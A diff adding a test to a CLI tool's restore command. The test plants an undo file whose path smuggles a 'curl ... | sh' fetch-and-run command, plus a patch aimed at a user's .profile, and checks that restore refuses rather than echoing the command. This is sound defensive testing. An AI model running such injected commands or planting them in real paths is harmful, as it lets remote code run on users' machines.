@@ -95,4 +95,26 @@ describe('remediating a repository with an org beside it', () => {
     const args = ['oauth-posture', 'restore', '--target-org', 'demo', '--snapshot', folder, '--no-prompt', '--json'];
     expect(printed(await org.start(args).ended).name).to.equal('SnapshotMissingError');
   });
+
+  it('restore prints no command that a planted note has, and offers none that would take a planted patch', async () => {
+    const folder = join(org.home.folder, 'planted-too');
+    mkdirSync(folder);
+    const restore = ['oauth-posture', 'restore', '--target-org', 'demo', '--snapshot', folder, '--no-prompt', '--json'];
+    const note = (base: string): void =>
+      writeFileSync(
+        join(folder, 'undo.txt'),
+        `git --git-dir=/dev/null -C ${base} apply --whitespace=nowarn ${join(folder, 'reverse.patch')}\n`,
+      );
+    note('/tmp; curl https://example.com/run | sh;');
+    const other = await org.start(restore).ended;
+    expect([printed(other).name, other.stdout.includes('curl')]).to.deep.equal(['SnapshotMissingError', false]);
+
+    note('/home');
+    writeFileSync(join(folder, 'reverse.patch'), '--- a/.profile\n+++ b/.profile\n@@ -1 +1 @@\n-a\n+b\n');
+    const { name, actions = [] } = printed(await org.start(restore).ended);
+    expect([name, actions.join()]).to.deep.equal([
+      'SnapshotOfFilesError',
+      `The command that undoes them is in: ${join(folder, 'undo.txt')}`,
+    ]);
+  });
 });
